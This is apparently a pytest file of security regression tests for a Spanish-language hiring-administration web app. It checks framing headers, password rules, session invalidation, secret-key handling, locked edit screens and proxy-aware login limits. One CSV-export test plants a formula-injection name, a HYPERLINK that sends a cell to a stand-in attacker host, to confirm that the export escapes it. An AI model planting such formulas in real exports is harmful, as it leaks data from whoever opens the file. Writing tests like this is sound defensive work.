"""What a security review of the accounts and screens found (A2, C1, A3): each test fails on the code before it."""

from __future__ import annotations

import csv
import io

import sqlalchemy as sa

from casadmin import models as m


def test_every_page_refuses_to_be_framed_and_to_be_sniffed(clients_by_role):
    """Clickjacking on the login, «Postular» or a score sheet; an uploaded file read as another type."""
    for ruta in ("/login/", "/portal/", "/cuenta/recuperar"):
        r = clients_by_role["publico"].get(ruta)
        assert r.headers["X-Frame-Options"] == "DENY", ruta
        assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]
        assert r.headers["X-Content-Type-Options"] == "nosniff" and r.headers["Referrer-Policy"] == "same-origin"


def test_the_profile_link_opens_for_staff_and_applicants(clients_by_role):
    """FAB's «Perfil» (/users/userinfo/) answered 403 to every user but the administrator: the permission
    named FAB's user view, not the one registered (casadmin.security.UsuarioView)."""
    for rol in ("orh", "comite", "postulante"):
        assert clients_by_role[rol].get("/users/userinfo/").status_code == 200, rol


def test_fabs_own_password_form_applies_the_eight_character_rule(app, client_for, db):
    """C1: 8 characters or more. «Restablecer mi contraseña» took «a»."""
    sm = app.appbuilder.sm
    user = sm.find_user(username="clave.corta") or sm.add_user(
        "clave.corta", "Clave", "Corta", "clave.corta@demo.casadmin.pe", sm.find_role("Postulante"), "demo12345")
    assert user
    client = client_for("clave.corta")
    r = client.post("/resetmypassword/form", data={"password": "a", "conf_password": "a"})
    assert "8 caracteres como mínimo" in r.get_data(as_text=True)
    assert sm.auth_user_db("clave.corta", "demo12345") is not None  # unchanged


def test_a_name_that_a_spreadsheet_would_run_is_exported_as_text(client_for, db):
    """A3's CSV export: a name typed «=HYPERLINK(…)» at registration came out as a live formula in HR's file."""
    post = db.session.scalar(sa.select(m.Postulante).join(m.Postulacion).join(m.Convocatoria).join(m.Entidad)
                             .where(m.Entidad.siglas == "SUNEDU").limit(1))
    antes = post.nombres
    post.nombres = '=HYPERLINK("http://malo.example/?x="&A2,"ver")'
    db.session.commit()
    try:
        r = client_for("orh.sunedu").get("/postulanteview/export/")
        filas = list(csv.reader(io.StringIO(r.get_data(as_text=True))))
        celdas = [c for f in filas for c in f if "HYPERLINK" in c]
        assert celdas and all(c.startswith("'=") for c in celdas)
    finally:
        post.nombres = antes
        db.session.commit()


def test_without_a_configured_key_each_installation_makes_its_own(tmp_path, monkeypatch):
    """The session key was written in the code («dev-only-change-me»), so anyone could sign an administrator's
    session on an installation that kept it (``make run``). Now: CASADMIN_SECRET_KEY, else a random key made once
    in the instance folder, readable by its owner only, and the same for every worker."""
    import importlib

    import config

    monkeypatch.delenv("CASADMIN_SECRET_KEY", raising=False)
    try:
        monkeypatch.setenv("CASADMIN_INSTANCE_DIR", str(tmp_path / "una"))
        primera = importlib.reload(config).SECRET_KEY
        assert len(primera) == 64 and importlib.reload(config).SECRET_KEY == primera  # kept, not made again
        assert (tmp_path / "una" / "secret_key").stat().st_mode & 0o077 == 0
        monkeypatch.setenv("CASADMIN_INSTANCE_DIR", str(tmp_path / "otra"))
        assert importlib.reload(config).SECRET_KEY != primera  # another installation, another key
        monkeypatch.setenv("CASADMIN_SECRET_KEY", "la-clave-de-produccion")
        assert importlib.reload(config).SECRET_KEY == "la-clave-de-produccion"
    finally:
        monkeypatch.undo()
        importlib.reload(config)


def test_results_contracts_and_appeals_change_only_on_their_checked_and_audited_screens(client_for):
    """A5, D10, D11: the generic screens let ORH change a stage result or score without an audit record, sign a
    contract without its registry checks or deadline, and decide an appeal without its rules."""
    orh = client_for("orh.sunedu")
    for vista in ("resultadoetapaview", "itemverificacionview", "resultadofinalview", "contratoview",
                  "impugnacionview"):
        assert orh.get(f"/{vista}/edit/1").status_code == 403, vista
        assert orh.post(f"/{vista}/edit/1", data={"estado": "suscrito"}).status_code == 403, vista
        assert orh.get(f"/{vista}/list/").status_code == 200, vista  # still read


def test_a_password_change_ends_the_other_sessions_of_the_account(app, client_for, db):
    """A session cookie copied before a password reset (the very reason to reset it) went on working."""
    sm = app.appbuilder.sm
    user = sm.find_user(username="sesion.vieja") or sm.add_user(
        "sesion.vieja", "Sesion", "Vieja", "sesion.vieja@demo.casadmin.pe", sm.find_role("Postulante"), "demo12345")
    sm.reset_password(user.id, "demo12345")
    otro_equipo, este = client_for("sesion.vieja"), client_for("sesion.vieja")
    assert otro_equipo.get("/users/userinfo/").status_code == 200
    # The owner changes it on «Restablecer mi contraseña»: their own session stays, the other one ends.
    r = este.post("/resetmypassword/form", data={"password": "otra-clave-2026", "conf_password": "otra-clave-2026"})
    assert r.status_code in (200, 302)
    assert sm.auth_user_db("sesion.vieja", "otra-clave-2026") is not None
    assert este.get("/users/userinfo/").status_code == 200
    assert otro_equipo.get("/users/userinfo/").status_code in (302, 401, 403)
    # Reset by the administrator (or a recovery link): every session of the account ends.
    with app.test_request_context():
        sm.reset_password(user.id, "demo12345")
    assert este.get("/users/userinfo/").status_code in (302, 401, 403)


def test_behind_a_proxy_the_login_limit_counts_each_client():
    """Behind nginx every client had the proxy's address: ten failed logins from anyone locked everybody out.
    With CASADMIN_PROXIES the client's address is the one the proxy reports."""
    from casadmin import create_app

    def app_con(proxies: int):
        app = create_app({"TESTING": True, "SQLALCHEMY_DATABASE_URI": "sqlite://", "WTF_CSRF_ENABLED": False,
                          "PROXIES": proxies, "AUTH_RATE_LIMIT": "2 per minute", "RATELIMIT_STORAGE_URI": "memory://",
                          "FAB_ADD_SECURITY_VIEWS": True})
        with app.app_context():
            from casadmin.extensions import db

            db.create_all()
        return app.test_client()

    def intentos(cliente, ip: str) -> list[int]:
        return [cliente.post("/login/", data={"username": "nadie", "password": "x"},
                             headers={"X-Forwarded-For": ip}).status_code for _ in range(3)]

    detras = app_con(1)
    assert intentos(detras, "10.0.0.1")[-1] == 429
    assert 429 not in intentos(detras, "10.0.0.2")[:2]  # another client: its own count
    directo = app_con(0)
    assert intentos(directo, "10.0.0.1")[-1] == 429
    assert intentos(directo, "10.0.0.2")[0] == 429  # the header is not trusted without a proxy: one bucket
